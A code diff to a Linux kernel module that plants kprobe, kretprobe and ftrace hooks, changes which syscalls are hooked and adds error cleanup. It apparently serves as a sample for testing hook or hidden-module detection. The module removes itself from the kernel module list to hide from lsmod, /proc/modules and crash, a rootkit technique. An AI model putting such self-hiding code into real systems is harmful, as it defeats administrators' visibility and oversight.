@@ -12,8 +12,8 @@
 #define TH_HID_KRP_DATA_SIZE	40
 #define TH_HID_KP_SYMBOL	"vfs_read"
 #define TH_HID_KP_INSIDE	"vfs_fsync_range"
-#define TH_HID_OPS_FUNC1	"__x64_sys_getuid"
-#define TH_HID_OPS_FUNC2	"__x64_sys_getgid"
+#define TH_HID_OPS_FUNC1	"__x64_sys_umask"
+#define TH_HID_OPS_FUNC2	"__x64_sys_getpriority"
 
 static unsigned long th_hid_hits;
 
@@ -73,13 +73,13 @@ static int __init th_hid_init(void)
 
 	ret = register_kprobe(&th_hid_kp);
 	if (ret)
-		return ret;
+		goto fail;
 	ret = th_register_inside(&th_hid_kp_inside, TH_HID_KP_INSIDE);
 	if (ret)
-		return ret;
+		goto fail_kp;
 	ret = register_kretprobe(&th_hid_krp);
 	if (ret)
-		return ret;
+		goto fail_inside;
 	ret = ftrace_set_filter(&th_hid_ops, TH_HID_OPS_FUNC1,
 				strlen(TH_HID_OPS_FUNC1), 0);
 	if (!ret)
@@ -88,11 +88,20 @@ static int __init th_hid_init(void)
 	if (!ret)
 		ret = register_ftrace_function(&th_hid_ops);
 	if (ret)
-		return ret;
+		goto fail_krp;
 	trace_printk("th_hidden: planted %d hooks\n", 4);
 	/* Disappear from /proc/modules, lsmod and crash's "mod". */
 	list_del(&THIS_MODULE->list);
 	return 0;
+fail_krp:
+	unregister_kretprobe(&th_hid_krp);
+fail_inside:
+	unregister_kprobe(&th_hid_kp_inside);
+fail_kp:
+	unregister_kprobe(&th_hid_kp);
+fail:
+	pr_err("th_hid: setup failed: %d\n", ret);
+	return ret;
 }
 module_init(th_hid_init);
 MODULE_LICENSE("GPL");
